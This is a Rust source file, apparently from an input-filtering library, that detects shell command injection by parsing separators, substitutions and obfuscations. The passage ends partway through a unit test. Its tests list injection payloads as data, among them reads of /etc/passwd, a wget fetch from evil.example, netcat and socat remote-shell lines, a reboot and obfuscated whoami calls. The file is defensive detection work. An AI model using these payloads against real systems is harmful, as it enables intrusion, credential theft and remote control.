//! Shell read as shell: command injection is a separator or a substitution (`;`, `|`, `&`, `&&`, `||`, a
//! newline, `` ` ``, `$(`, `<(`) followed by a program, so each such place is read as the shell reads a
//! command word — quotes inside words, backslashes, `$IFS`, `${VAR:0:1}`, ANSI-C `$'\x69'` strings and
//! globs such as `/???/??t` resolved against common programs — and the word is looked up in a command
//! vocabulary. Whether it is an attack then depends on what follows: shell-shaped arguments
//! (`-la`, `/etc`, `$HOME`, a URL) or nothing, not words of prose.

mod words;

use super::rules::{Rule, grammar};
use super::verdict::Category::CommandInjection as Cmd;
use super::verdict::Severity::{Critical, High, Low, Medium};
use words::{Kind, PROGRAM_PATHS, command, glob_matches, may_be_program};

/// The longest word read as a command name (a path included).
const MAX_WORD: usize = 48;
/// How many command positions (separators, substitutions, line starts) one input has read at most: more
/// than a long document's lines (a mebibyte of prose has about 23,000), so only inputs built to make the
/// reader work reach it, and those get [`Shape::TooManyPositions`].
const MAX_POSITIONS: usize = 32 * 1024;

/// A shell shape found in an input; each is one grammar rule (see `GRAMMAR_RULES`).
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
pub(crate) enum Shape {
    /// More command positions than are read: the rest of the input is left to the pattern rules. Weak.
    TooManyPositions,
    /// A program name after a separator or in markdown-like backquotes, with prose after it: weak.
    ProseCommand,
    /// A value that is a program with shell-shaped arguments (`cat /etc/passwd`, `ping -c 3 host`).
    WholeCommand,
    /// A separator, then a program with shell-shaped arguments or none (`;id`, `| cat /etc/passwd`).
    Separated,
    /// A program in a command substitution (`$(id)`, `` x`whoami` ``, `<(curl ...)`).
    Substitution,
    /// A program stored in a variable and run from it (`CMD=$'id';$CMD`).
    StoredCommand,
}

impl Shape {
    /// Every shape, in the order of their rules.
    #[cfg(test)]
    pub(crate) const ALL: [Shape; 6] = [
        Shape::Separated,
        Shape::Substitution,
        Shape::WholeCommand,
        Shape::StoredCommand,
        Shape::ProseCommand,
        Shape::TooManyPositions,
    ];

    /// The grammar rule of this shape: its id, how bad and how sure, what it means.
    pub(crate) const fn rule(self) -> Rule {
        match self {
            Shape::Separated => grammar(
                411,
                Cmd,
                Critical,
                5,
                "shell: a separator, then a program with shell-shaped arguments or none",
            ),
            Shape::Substitution => grammar(
                412,
                Cmd,
                Critical,
                5,
                "shell: a program in a command substitution (`$(...)`, `<(...)`, glued backquotes)",
            ),
            Shape::WholeCommand => {
                grammar(413, Cmd, High, 5, "shell: a value that is a program with shell-shaped arguments")
            }
            Shape::StoredCommand => {
                grammar(414, Cmd, Critical, 5, "shell: a program stored in a variable and run from it")
            }
            Shape::ProseCommand => grammar(
                415,
                Cmd,
                Medium,
                3,
                "shell: a program name after a separator or in backquotes, then prose",
            ),
            Shape::TooManyPositions => grammar(
                416,
                Cmd,
                Low,
                3,
                "shell: more separators and lines than are read (32,768); the rest is left to patterns",
            ),
        }
    }

    /// The id of this shape's rule.
    pub(crate) fn rule_id(self) -> u16 {
        self.rule().id
    }
}

/// How a command position was reached.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Position {
    /// The start of the input or of a line: prose starts here too.
    Start,
    /// After `;`, `|`, `&`.
    Separator,
    /// After `$(`, `<(`, `>(`, or a backquote glued to the text before it.
    Substitution,
    /// After a backquote with a space or nothing before it: markdown writes code this way.
    Backquote,
    /// The second line of a value whose first line is one token (`127.0.0.1\nid`): to the shell the newline
    /// ends a command as `;` does, and a field's value does not go on with a line of its own.
    LineAfterValue,
}

/// The strongest shell shape in `text`, if any.
pub(crate) fn detect(text: &[u8]) -> Option<Shape> {
    let mut best = judge(text, 0, Position::Start);
    let mut visited = 0;
    // Returns whether to stop: a strong shape is found, or the positions are used up.
    let mut consider = |at: usize, position: Option<Position>| {
        visited += 1;
        if visited > MAX_POSITIONS {
            best = best.max(Some(Shape::TooManyPositions));
            return true;
        }
        if let Some(shape) = position.and_then(|position| judge(text, at + 1, position)) {
            best = best.max(Some(shape));
        }
        best >= Some(Shape::Separated)
    };
    for at in memchr::memchr3_iter(b';', b'|', b'&', text) {
        if consider(at, Some(Position::Separator)) {
            return best;
        }
    }
    for at in memchr::memchr2_iter(b'`', b'(', text) {
        let position = match text[at] {
            b'`' if in_code_fence(text, at) => None,
            b'`' if at == 0 || !text[at - 1].is_ascii_whitespace() => Some(Position::Substitution),
            b'`' => Some(Position::Backquote),
            _ if at > 0 && matches!(text[at - 1], b'$' | b'<' | b'>') => Some(Position::Substitution),
            _ => None,
        };
        if consider(at, position) {
            return best;
        }
    }
    // Lines are the densest positions in prose: most are turned away by their first two letters.
    let first_line_end = memchr::memchr(b'\n', text);
    for at in memchr::memchr_iter(b'\n', text) {
        let position = if Some(at) == first_line_end && is_lone_value(&text[..at]) {
            Some(Position::LineAfterValue)
        } else {
            line_may_start_a_command(&text[at + 1..]).then_some(Position::Start)
        };
        if consider(at, position) {
            return best;
        }
    }
    best
}

/// How far back a separator's segment is read for a command of its own.
const MAX_SEGMENT: usize = 160;

/// Whether the text just before the separator at `at` (back to the previous separator, line or
/// quotation, at most [`MAX_SEGMENT`] bytes) holds a program of the vocabulary followed by shell-shaped
/// arguments up to the separator: the separator joins two commands written out, it does not end a value.
fn follows_a_command(text: &[u8], at: usize) -> bool {
    let from = at.saturating_sub(MAX_SEGMENT);
    let start = text[from..at]
        .iter()
        .rposition(|byte| matches!(byte, b';' | b'|' | b'&' | b'\n' | b'`' | b'(' | b')'))
        .map_or(from, |position| from + position + 1);
    // A doubled separator (`&&`, `||`) belongs to the one before it.
    let segment = &text[start..at];
    if segment.iter().all(u8::is_ascii_whitespace) {
        return false;
    }
    let mut word_start = start;
    while word_start < at {
        let is_word_start = (word_start == start || text[word_start - 1].is_ascii_whitespace())
            && text[word_start].is_ascii_alphabetic();
        if is_word_start
            && let Some(word) = Word::read(text, word_start)
            && word.end < at
            && word.program().and_then(command).is_some()
            && ends_a_written_command(text, word.end, at)
        {
            return true;
        }
        word_start += 1;
    }
    false
}

/// The longest backquote run, and the longest language name after it, read as a code fence: fences are
/// three or four backquotes and a short name; a longer run is no markup anyone writes, and the bound keeps
/// a value of backquotes from being read back and forth at each of them.
const MAX_FENCE: usize = 32;

/// Whether the backquote at `at` is part of a markdown code fence: a run of three to [`MAX_FENCE`] at a
/// line's start (after blanks), then at most a language name (`` ```bash ``), then the line's end. The code
/// inside is read line by line as any text is; the run is markup, not an empty substitution followed by
/// another.
fn in_code_fence(text: &[u8], at: usize) -> bool {
    let is_backquote = |byte: &&u8| **byte == b'`';
    let before = text[..at].iter().rev().take(MAX_FENCE).take_while(is_backquote).count();
    let from_here = text[at..].iter().take(MAX_FENCE + 1).take_while(is_backquote).count();
    if !(3..=MAX_FENCE).contains(&(before + from_here)) {
        return false;
    }
    let (run_start, run_end) = (at - before, at + from_here);
    let is_blank = |byte: &&u8| matches!(byte, b' ' | b'\t');
    let indent = text[..run_start].iter().rev().take_while(is_blank).count();
    let at_line_start = run_start == indent || text[run_start - indent - 1] == b'\n';
    let info = &text[run_end..];
    let info_length = info
        .iter()
        .take(MAX_FENCE + 1)
        .take_while(|byte| byte.is_ascii_alphanumeric() || matches!(byte, b'_' | b'+' | b'#' | b'.' | b'-'))
        .count();
    let after_info = &info[info_length..];
    let blanks = after_info.iter().take_while(is_blank).count();
    at_line_start && info_length <= MAX_FENCE && matches!(after_info[blanks..], [] | [b'\n' | b'\r', ..])
}

/// Whether `line`, a value's first line, is one token: no blank inside, not ended as a sentence or a label
/// ends (`Example:`), not a code fence (`` ```bash ``). A message's first line of prose or a label opens a
/// block of code; a token is a field's value, which a line of its own does not continue.
fn is_lone_value(line: &[u8]) -> bool {
    let line = line.trim_ascii();
    !line.is_empty()
        && line.len() <= MAX_SEGMENT
        && !line.starts_with(b"```")
        && !line.iter().any(u8::is_ascii_whitespace)
        && !matches!(line.last(), Some(b':' | b'?' | b'!' | b'.' | b','))
}

/// Whether the program word ending at `word_end` is written out as a command up to the separator at `at`:
/// shell-shaped arguments follow it, or nothing but a blank (`history | grep rm`): a value glued to its
/// separator (`ls;id`) is how an injection ends the value it was given.
fn ends_a_written_command(text: &[u8], word_end: usize, at: usize) -> bool {
    match Arguments::after(text, word_end) {
        Arguments::Shell => true,
        Arguments::None => text[word_end..at].iter().any(u8::is_ascii_whitespace),
        _ => false,
    }
}

/// Whether a line can start with a command: its first word begins like a program of the vocabulary, or
/// with something other than a letter (a path, a quote, an expansion).
fn line_may_start_a_command(line: &[u8]) -> bool {
    let start = line.iter().position(|byte| !matches!(byte, b' ' | b'\t' | b'\r')).unwrap_or(line.len());
    // A quotation mark is removed as the shell removes quotes; a blank line leaves the work to the next.
    let word = match &line[start..] {
        [b'"' | b'\'', rest @ ..] => rest,
        [] | [b'\n', ..] => return false,
        rest => rest,
    };
    match word {
        [first, second, ..] if first.is_ascii_alphabetic() => {
            may_be_program(first.to_ascii_lowercase(), second.to_ascii_lowercase()) && !opens_prose(word)
        }
        // Program names are ASCII: a line of non-ASCII text opens no command.
        [first, ..] if !first.is_ascii() => false,
        [first, ..] => !first.is_ascii_alphabetic() || first.eq_ignore_ascii_case(&b'w'),
        [] => false,
    }
}

/// Whether the plain word that opens `text` is followed as words of text are: by another word after a
/// space (see [`starts_prose`]) or by punctuation (`which, granting`, `time.`). At the start of a line a
/// command needs shell-shaped arguments, and these are none.
fn opens_prose(text: &[u8]) -> bool {
    let length = text.iter().take_while(|b| b.is_ascii_alphanumeric() || matches!(b, b'_' | b'-')).count();
    match text.get(length) {
        Some(b' ') => starts_prose(text),
        Some(b',' | b'!' | b'?' | b';' | b')') => true,
        // A full stop, not a file name's dot (`cmd.exe`).
        Some(b'.') => !text.get(length + 1).is_some_and(u8::is_ascii_alphanumeric),
        _ => false,
    }
}

/// The command word at `at`, reached through `position`.
fn judge(text: &[u8], from: usize, position: Position) -> Option<Shape> {
    let mut at = skip_blanks(text, from);
    if position == Position::Start && starts_prose(&text[at..]) {
        return None;
    }
    let mut braced = false;
    // Grouping, negation, a doubled separator and cmd.exe's `^` escape come before the command word.
    while let Some(&byte @ (b'{' | b'(' | b'!' | b'&' | b'|' | b'^')) = text.get(at) {
        braced |= byte == b'{';
        at = skip_blanks(text, at + 1);
    }
    if plain_unknown_word(&text[at..]) {
        return None;
    }
    let word = Word::read(text, at)?;
    if let Some(shape) = stored_command(text, &word) {
        return Some(shape);
    }
    let kind = command(word.program()?)?;
    if word.spliced {
        return Some(Shape::Substitution);
    }
    let unambiguous = kind == Kind::Program;
    // A quoted word with spaces in it (`'ping -c 3 host'`) is a whole command line to an `eval`.
    let arguments = match word.inner_arguments() {
        Some(inner) => Arguments::after(inner, 0),
        None => Arguments::after(text, word.end),
    };
    let shell_shaped = match arguments {
        Arguments::Shell => true,
        Arguments::BraceList => braced,
        Arguments::Number => position != Position::Start,
        Arguments::None => kind != Kind::Word,
        Arguments::LineEnd => unambiguous,
        Arguments::Prose => false,
    };
    match position {
        Position::Substitution => Some(Shape::Substitution),
        // A separator after a command written out with its arguments joins two commands quoted in text
        // (`... files: find . -name '*.py' | xargs wc -l`): a finding only. An injection puts its separator
        // after a value (`127.0.0.1 | id`). Read only here, where it decides, so prose pays nothing for it.
        Position::Separator if shell_shaped || unambiguous => {
            if from > 0 && follows_a_command(text, from - 1) {
                shell_shaped.then_some(Shape::ProseCommand)
            } else {
                Some(Shape::Separated)
            }
        }
        Position::Start if shell_shaped && (unambiguous || arguments != Arguments::None) => {
            Some(Shape::WholeCommand)
        }
        Position::Separator => Some(Shape::ProseCommand),
        // A program and prose on the value's second line is a message's next sentence (`Hi\nls shows
        // nothing`), not a command.
        Position::LineAfterValue if shell_shaped => Some(Shape::Separated),
        // Markdown's code spans: a finding only with shell-shaped arguments (`` `ls -la` ``).
        Position::Backquote if shell_shaped => Some(Shape::ProseCommand),
        Position::Start | Position::Backquote | Position::LineAfterValue => None,
    }
}

/// Whether `text` opens with a plain word and then, after a space, another word: a line of prose, which
/// no program at the start of a line turns into a command (a shortcut past reading the word as the
/// shell would; most lines of text end here).
fn starts_prose(text: &[u8]) -> bool {
    // Dialogue opens with a quotation mark.
    let text = match text {
        [b'"' | b'\'', rest @ ..] => rest,
        _ => text,
    };
    let letters =
        |from: usize| text[from.min(text.len())..].iter().take_while(|b| b.is_ascii_alphabetic()).count();
    let first = letters(0);
    if first == 0 || text.get(first) != Some(&b' ') {
        return false;
    }
    let second_end = first + 1 + letters(first + 1);
    // The second word ends as words of text do, not as a URL, a drive or a file name goes on.
    second_end > first + 1
        && match text.get(second_end) {
            None | Some(b' ' | b',' | b'!' | b'?' | b'\r' | b'\n') => true,
            Some(b'.') => !text.get(second_end + 1).is_some_and(|b| b.is_ascii_alphanumeric()),
            _ => false,
        }
}

/// Whether `text` opens with a plain word (letters, digits, `_`, `-`) that ends as words of text end and
/// is no program: nothing for the shell to undo, nothing to look up further.
fn plain_unknown_word(text: &[u8]) -> bool {
    let length = text.iter().take_while(|b| b.is_ascii_alphanumeric() || matches!(b, b'_' | b'-')).count();
    if length == 0 || length > 16 {
        return length > 16;
    }
    if !matches!(
        text.get(length),
        None | Some(b' ' | b'\t' | b'\r' | b'\n' | b',' | b'.' | b'!' | b'?' | b';')
    ) {
        return false;
    }
    if length >= 2 && !may_be_program(text[0].to_ascii_lowercase(), text[1].to_ascii_lowercase()) {
        return true;
    }
    let mut lower = [0u8; 16];
    for (slot, byte) in lower.iter_mut().zip(&text[..length]) {
        *slot = byte.to_ascii_lowercase();
    }
    command(&lower[..length]).is_none()
}

/// `NAME=program...` whose `$NAME` is run later in the input.
fn stored_command(text: &[u8], word: &Word) -> Option<Shape> {
    let equals = word.assignment?;
    let name = &text[word.start..word.start + equals];
    let value = &word.bytes[equals + 1..word.length];
    let program = value.split(u8::is_ascii_whitespace).next()?;
    command(basename(program))?;
    let rest = &text[word.end..];
    let used = memchr::memmem::find_iter(rest, b"$").any(|at| {
        let after = &rest[at + 1..];
        let after = after.strip_prefix(b"{").unwrap_or(after);
        after.starts_with(name)
            && !after.get(name.len()).is_some_and(|b| b.is_ascii_alphanumeric() || *b == b'_')
    });
    used.then_some(Shape::StoredCommand)
}

fn skip_blanks(text: &[u8], mut at: usize) -> usize {
    while let Some(b' ' | b'\t' | b'\r' | b'\n') = text.get(at) {
        at += 1;
    }
    at
}

/// Whether `path` names a program the way a command does: a bare name, or a name in a directory that holds
/// programs (`/bin/id`, `./x`, `C:\Windows\System32\cmd.exe`). A name under the root alone (`/whoami`) is a
/// URL path, not a program: no system keeps programs there.
fn in_program_directory(path: &[u8]) -> bool {
    let Some(slash) = path.iter().rposition(|b| matches!(b, b'/' | b'\\')) else { return true };
    let directory = &path[..slash];
    let normalized = directory.iter().map(|b| if *b == b'\\' { b'/' } else { *b });
    const PROGRAM_DIRECTORIES: &[&[u8]] = &[
        b".",
        b"~",
        b"/bin",
        b"/sbin",
        b"/usr/bin",
        b"/usr/sbin",
        b"/usr/local/bin",
        b"/usr/local/sbin",
        b"/system/bin",
        b"/windows/system32",
        b"c:/windows/system32",
        b"c:/windows",
        b"%windir%/system32",
        b"%systemroot%/system32",
    ];
    PROGRAM_DIRECTORIES
        .iter()
        .any(|known| known.len() == directory.len() && known.iter().copied().eq(normalized.clone()))
}

/// The part of a path after its last `/` or `\`, without `.exe`.
fn basename(path: &[u8]) -> &[u8] {
    let name = match path.iter().rposition(|b| matches!(b, b'/' | b'\\')) {
        Some(slash) => &path[slash + 1..],
        None => path,
    };
    name.strip_suffix(b".exe").unwrap_or(name)
}

/// One word as the shell reads it: quotes removed, escapes and expansions resolved, lowercased.
struct Word {
    bytes: [u8; MAX_WORD],
    length: usize,
    /// Where the word starts and ends in the input.
    start: usize,
    end: usize,
    /// Whether it holds glob characters.
    glob: bool,
    /// Where `=` of an assignment `NAME=value` is in `bytes`.
    assignment: Option<usize>,
    /// An empty expansion was dropped inside it (`who$()ami`, ``who``ami``, `who$@ami`): a name split so
    /// that filters do not see it, which no text writes.
    spliced: bool,
}

impl Word {
    /// The word at `at`; `None` when there is none or it is longer than a program name.
    fn read(text: &[u8], at: usize) -> Option<Word> {
        let mut word = Word::empty(at);
        let mut i = at;
        // In a Windows path (`C:\Windows\...`, `%windir%\...`) a backslash separates; elsewhere it escapes.
        let windows_path = matches!(&text[at.min(text.len())..], [drive, b':', b'\\', ..] if drive.is_ascii_alphabetic())
            || text.get(at) == Some(&b'%');
        while let Some(&byte) = text.get(i) {
            match byte {
                // An empty command substitution inside a word adds nothing to it.
                b'`' if word.length > 0 && text.get(i + 1) == Some(&b'`') => {
                    word.spliced = true;
                    i += 2;
                }
                b' ' | b'\t' | b'\r' | b'\n' | b';' | b'&' | b'|' | b'<' | b'>' | b'(' | b')' | b'`'
                | b',' | b'}' => break,
                b'\'' | b'"' => i = word.quoted(text, i)?,
                // An escaped quote or backquote is read as itself: payloads arrive escaped once more than
                // needed.
                b'\\' if matches!(text.get(i + 1), Some(b'\'' | b'"' | b'`')) => i += 1,
                b'\\' if windows_path => {
                    word.push(byte)?;
                    i += 1;
                }
                b'\\' => {
                    match text.get(i + 1) {
                        Some(b'\n') | None => {}
                        Some(&next) => word.push(next)?,
                    }
                    i += 2;
                }
                b'$' => match expansion(text, i) {
                    Expansion::Break => break,
                    Expansion::Text(skip, value) => i += word.expanded(skip, &value)?,
                },
                b'?' | b'*' | b'[' => {
                    word.glob = true;
                    word.push(byte)?;
                    i += 1;
                }
                b'=' if word.assignment.is_none()
                    && word.length > 0
                    && text[at..i].iter().all(|b| b.is_ascii_alphanumeric() || *b == b'_') =>
                {
                    word.assignment = Some(word.length);
                    word.push(byte)?;
                    i += 1;
                }
                _ => {
                    word.push(byte.to_ascii_lowercase())?;
                    i += 1;
                }
            }
        }
        word.end = i.min(text.len());
        (word.length > 0).then_some(word)
    }

    fn empty(at: usize) -> Word {
        Word {
            bytes: [0; MAX_WORD],
            length: 0,
            start: at,
            end: at,
            glob: false,
            assignment: None,
            spliced: false,
        }
    }

    /// An expansion's `value` added to the word (an empty one inside it splices the name); the bytes it
    /// took, `skip`.
    fn expanded(&mut self, skip: usize, value: &Expanded) -> Option<usize> {
        self.spliced |= skip > 1 && value.as_slice().is_empty() && self.length > 0;
        self.push_all(value.as_slice())?;
        Some(skip)
    }

    /// The quoted part that opens at `at` (its quotes removed, as the shell removes them), added to the
    /// word; where reading goes on. `None` when the word grows longer than a program name.
    fn quoted(&mut self, text: &[u8], at: usize) -> Option<usize> {
        let body = &text[at + 1..];
        let close = memchr::memchr(text[at], body).unwrap_or(body.len());
        // A backslash before the closing quote escaped it once more than needed.
        let inside = &body[..close];
        if inside.len() > MAX_WORD - self.length {
            return None;
        }
        self.push_all(inside.strip_suffix(b"\\").unwrap_or(inside))?;
        Some(at + close + 2)
    }

    fn push(&mut self, byte: u8) -> Option<()> {
        *self.bytes.get_mut(self.length)? = byte;
        self.length += 1;
        Some(())
    }

    fn push_all(&mut self, bytes: &[u8]) -> Option<()> {
        bytes.iter().try_for_each(|byte| self.push(byte.to_ascii_lowercase()))
    }

    /// The part of the word before a quoted space, if it has one.
    fn head(&self) -> &[u8] {
        let word = &self.bytes[..self.length];
        let space = word.iter().position(u8::is_ascii_whitespace).unwrap_or(word.len());
        &word[..space]
    }

    /// What follows a quoted space in the word.
    fn inner_arguments(&self) -> Option<&[u8]> {
        let word = &self.bytes[..self.length];
        word.iter().position(u8::is_ascii_whitespace).map(|space| &word[space..])
    }

    /// The program this word names, glob resolved against common program paths.
    fn program(&self) -> Option<&[u8]> {
        let word = self.head();
        if !self.glob {
            return in_program_directory(word).then(|| basename(word));
        }
        if word.first() != Some(&b'/') {
            return None;
        }
        PROGRAM_PATHS
            .iter()
            .find(|path| glob_matches(word, path.as_bytes()))
            .map(|path| basename(path.as_bytes()))
    }
}

/// What a `$` at the cursor expands to, as far as naming a program goes.
enum Expansion {
    /// `$IFS`, `${IFS}`: a word break.
    Break,
    /// Skip this many bytes and add this text.
    Text(usize, Expanded),
}

/// A short expansion result.
struct Expanded {
    bytes: [u8; MAX_WORD],
    length: usize,
}

impl Expanded {
    fn of(bytes: &[u8]) -> Self {
        let mut expanded = Expanded { bytes: [0; MAX_WORD], length: 0 };
        for &byte in bytes.iter().take(MAX_WORD) {
            expanded.bytes[expanded.length] = byte;
            expanded.length += 1;
        }
        expanded
    }

    fn as_slice(&self) -> &[u8] {
        &self.bytes[..self.length]
    }
}

/// The expansion of the `$` at `at`.
fn expansion(text: &[u8], at: usize) -> Expansion {
    let rest = &text[at + 1..];
    match rest.first() {
        Some(b'\'') => ansi_c_string(rest),
        Some(b'{') => {
            let Some(close) = memchr::memchr(b'}', rest) else {
                return Expansion::Text(1, Expanded::of(b"$"));
            };
            let inner = &rest[1..close];
            let name_length = inner.iter().take_while(|b| b.is_ascii_alphanumeric() || **b == b'_').count();
            let (name, operation) = inner.split_at(name_length);
            if name == b"IFS" && operation.is_empty() {
                return Expansion::Break;
            }
            // `${PATH:0:1}` and its like are `/`: these variables hold absolute paths.
            let slash = matches!(name, b"PATH" | b"HOME" | b"PWD" | b"SHELL" | b"OLDPWD")
                && operation.starts_with(b":0:1");
            Expansion::Text(close + 2, Expanded::of(if slash { b"/" } else { b"" }))
        }
        Some(b'@' | b'*' | b'#' | b'0'..=b'9') => Expansion::Text(2, Expanded::of(b"")),
        // `$()`: an empty command substitution.
        Some(b'(') if rest.get(1) == Some(&b')') => Expansion::Text(3, Expanded::of(b"")),
        // `$"..."` is a translated string: the string itself.
        Some(b'"') | Some(b'\\') => Expansion::Text(1, Expanded::of(b"")),
        _ if rest.starts_with(b"IFS") => Expansion::Break,
        _ => Expansion::Text(1, Expanded::of(b"$")),
    }
}

/// `$'...'` at `rest` (after the `$`): backslash escapes decoded.
fn ansi_c_string(rest: &[u8]) -> Expansion {
    let body = &rest[1..];
    let mut out = Expanded { bytes: [0; MAX_WORD], length: 0 };
    let mut i = 0;
    while i < body.len() && body[i] != b'\'' {
        let (byte, used) = match &body[i..] {
            [b'\\', b'x', a, b, ..] if a.is_ascii_hexdigit() && b.is_ascii_hexdigit() => {
                (hex(*a) * 16 + hex(*b), 4)
            }
            [b'\\', a @ b'0'..=b'3', b @ b'0'..=b'7', c @ b'0'..=b'7', ..] => {
                ((a - b'0') * 64 + (b - b'0') * 8 + (c - b'0'), 4)
            }
            [b'\\', b'n', ..] => (b'\n', 2),
            [b'\\', other, ..] => (*other, 2),
            [byte, ..] => (*byte, 1),
            [] => break,
        };
        if out.length < MAX_WORD {
            out.bytes[out.length] = byte;
            out.length += 1;
        }
        i += used;
    }
    Expansion::Text(1 + i + 2, out)
}

fn hex(digit: u8) -> u8 {
    match digit {
        b'0'..=b'9' => digit - b'0',
        _ => (digit | 0x20) - b'a' + 10,
    }
}

/// What follows a command word.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Arguments {
    /// Nothing, or another separator: the command runs alone.
    None,
    /// The end of a line: the command runs alone, or a line of prose ends in an ordinary word.
    LineEnd,
    /// An option, a path, a variable, a redirection, a URL, an address or a quoted string.
    Shell,
    /// An integer (`sleep 5`), which prose also writes after a word.
    Number,
    /// A comma: brace expansion's list (`{cat,/etc/passwd}`) when a brace opened the word.
    BraceList,
    /// A word of text.
    Prose,
}

impl Arguments {
    fn after(text: &[u8], mut at: usize) -> Arguments {
        loop {
            at = match text.get(at) {
                Some(b' ' | b'\t') => at + 1,
                Some(b'$') if text[at + 1..].starts_with(b"IFS") => at + 4,
                Some(b'$') if text[at + 1..].starts_with(b"{IFS}") => at + 6,
                _ => break,
            };
        }
        let rest = &text[at.min(text.len())..];
        let token_end =
            rest.iter().skip(1).position(u8::is_ascii_whitespace).map_or(rest.len(), |end| end + 1);
        let token = &rest[..token_end];
        match token {
            [] | [b';' | b'|' | b'&' | b'`' | b')' | b'#', ..] => Arguments::None,
            [b'\r' | b'\n', ..] => Arguments::LineEnd,
            [b',', ..] => Arguments::BraceList,
            [b'-', next, ..] if next.is_ascii_alphanumeric() || *next == b'-' => Arguments::Shell,
            [b'/' | b'~' | b'.' | b'$' | b'%' | b'\\' | b'>' | b'<' | b'*' | b'\'' | b'"' | b'{', ..] => {
                Arguments::Shell
            }
            [digit, ..] if digit.is_ascii_digit() && token.contains(&b'.') => Arguments::Shell,
            [digit, ..] if digit.is_ascii_digit() => Arguments::Number,
            [letter, b':', b'\\' | b'/', ..] if letter.is_ascii_alphabetic() => Arguments::Shell,
            _ if memchr::memmem::find(token, b"://").is_some() => Arguments::Shell,
            _ if token.contains(&b'/') && token.contains(&b'.') => Arguments::Shell,
            _ => Arguments::Prose,
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn shape(input: &str) -> Option<Shape> {
        detect(input.as_bytes())
    }

    #[test]
    fn an_empty_substitution_inside_a_name_splices_it_and_before_a_name_adds_nothing() {
        assert_eq!(shape("who$()ami"), Some(Shape::Substitution));
        assert_eq!(shape("who${}ami -a"), Some(Shape::Substitution));
        assert_eq!(shape("$()whoami"), Some(Shape::WholeCommand));
        // `$"..."` is the string itself: a name written in parts, not spliced by a substitution.
        assert_eq!(shape("who$\"ami\""), Some(Shape::WholeCommand));
    }

    #[test]
    fn a_quoted_part_fills_the_word_up_to_its_bound_and_no_further() {
        let fits = format!("ab'{}'", "c".repeat(MAX_WORD - 2));
        assert_eq!(Word::read(fits.as_bytes(), 0).map(|word| word.length), Some(MAX_WORD));
        let over = format!("ab'{}'", "c".repeat(MAX_WORD - 1));
        assert!(Word::read(over.as_bytes(), 0).is_none());
        // `$(` opens a substitution only of what follows; it splices nothing into the word before it.
        assert_eq!(shape("who$(x)ami"), None);
    }

    #[test]
    fn a_code_fence_is_three_backquotes_or_more_at_a_line_start() {
        // The fence's backquotes are markup; the block's lines are read as lines.
        assert_eq!(shape("Run this:\n```sh\nls -la /srv\n```"), Some(Shape::WholeCommand));
        // Two backquotes are an empty substitution, then one more: the shell runs what follows.
        assert_eq!(shape(" ``sh\nx"), Some(Shape::Substitution));
        // Not at a line's start: text before the backquotes on the same line.
        assert_eq!(shape("see ```sh\nx"), Some(Shape::Substitution));
        // Fences are short: a run past the bound, or a language name past it, is read as the shell reads it.
        let fence = |run: usize, name: &str| format!("  {}{name}\nx", "`".repeat(run));
        assert!(in_code_fence(fence(MAX_FENCE, "sh").as_bytes(), 2));
        assert!(!in_code_fence(fence(MAX_FENCE + 1, "sh").as_bytes(), 2 + MAX_FENCE));
        assert!(in_code_fence(fence(3, &"a".repeat(MAX_FENCE)).as_bytes(), 3));
        assert!(!in_code_fence(fence(3, &"a".repeat(MAX_FENCE + 1)).as_bytes(), 3));
    }

    #[test]
    fn a_separator_after_a_value_is_an_injection_after_a_written_command_a_quotation() {
        assert_eq!(shape("127.0.0.1 | id"), Some(Shape::Separated));
        assert_eq!(shape("report.pdf; cat /etc/passwd"), Some(Shape::Separated));
        assert_eq!(shape("q=1 && wget http://evil.example/x"), Some(Shape::Separated));
        // A pipeline written out in a question: at most a finding, never a refusal on its own.
        assert_eq!(shape("to list them: ls -la /srv | grep -c log"), Some(Shape::ProseCommand));
        // A program alone, then a blank and the separator: a pipeline written out; glued, a value ended.
        assert_eq!(shape("I ran `history | grep -n rm` to see it"), Some(Shape::ProseCommand));
        assert_eq!(shape("history|grep -n rm"), Some(Shape::Separated));
        // A program's name inside another word is no program; a program followed by a word of text is no
        // command written out.
        assert_eq!(shape("xls -la /srv | id"), Some(Shape::Separated));
        assert_eq!(shape("ping example | id"), Some(Shape::Separated));
        for quoted in ["try du -sh ./cache && echo done", "chain grep -r foo . | sort", "so ls -la | wc -l"] {
            assert!(matches!(shape(quoted), None | Some(Shape::ProseCommand)), "{quoted}");
        }
        // The command before must be written with its arguments: a bare word is still a value.
        assert_eq!(shape("status | id"), Some(Shape::Separated));
        assert!(!follows_a_command(b"   | id", 3));
    }

    #[test]
    fn commands_in_their_disguises() {
        let cases: &[(&str, Shape)] = &[
            ("a;id", Shape::Separated),
            ("x | cat /etc/passwd", Shape::Separated),
            ("a;c'a't /e't'c/pas'swd'", Shape::Separated),
            ("a;w\\hoami", Shape::Separated),
            ("a;/???/??t /???/p??s??", Shape::Separated),
            ("x;$(printf '\\x69\\x64')", Shape::Substitution),
            ("x;${PATH:0:1}bin${PATH:0:1}id", Shape::Separated),
            ("a;/usr/bin/whoami", Shape::Separated),
            ("a & C:\\Windows\\System32\\cmd.exe /c dir", Shape::Separated),
            ("a;cat${IFS}/etc/passwd", Shape::Separated),
            ("a && busybox nc 10.0.0.1 4444", Shape::Separated),
            ("a | socat tcp:1.2.3.4:80 exec:sh", Shape::Separated),
            ("a; printenv", Shape::Separated),
            ("a;{cat,/etc/passwd}", Shape::Separated),
            ("a; find / -perm -4000", Shape::Separated),
            ("a || reboot", Shape::Separated),
            ("a & dir c:\\", Shape::Separated),
            ("x`whoami`", Shape::Substitution),
            ("?user=\\`whoami\\`", Shape::Substitution),
            ("diff <(curl http://x)", Shape::Substitution),
            ("CMD=$'id';$CMD", Shape::StoredCommand),
            ("FAIL||CMD=$'ls -la /';$CMD", Shape::StoredCommand),
            ("'ping -c 3 127.0.0.1'", Shape::WholeCommand),
            ("\n dir c:/", Shape::WholeCommand),
            ("cat /etc/passwd", Shape::WholeCommand),
            ("whoami", Shape::WholeCommand),
            ("prose first\nwhoami.exe /all", Shape::WholeCommand),
            ("wget http://example.com/x.sh", Shape::WholeCommand),
            ("wget example.com/x.sh", Shape::WholeCommand),
            ("a;$'\\x77hoami'", Shape::Separated),
            ("^CMD=$'id';$CMD", Shape::StoredCommand),
            ("CMD=$\\'wget http://example.com/x.sh\\';$CMD", Shape::StoredCommand),
            ("CMD=$\\\"id\\\";$CMD", Shape::StoredCommand),
        ];
        for (input, expected) in cases {
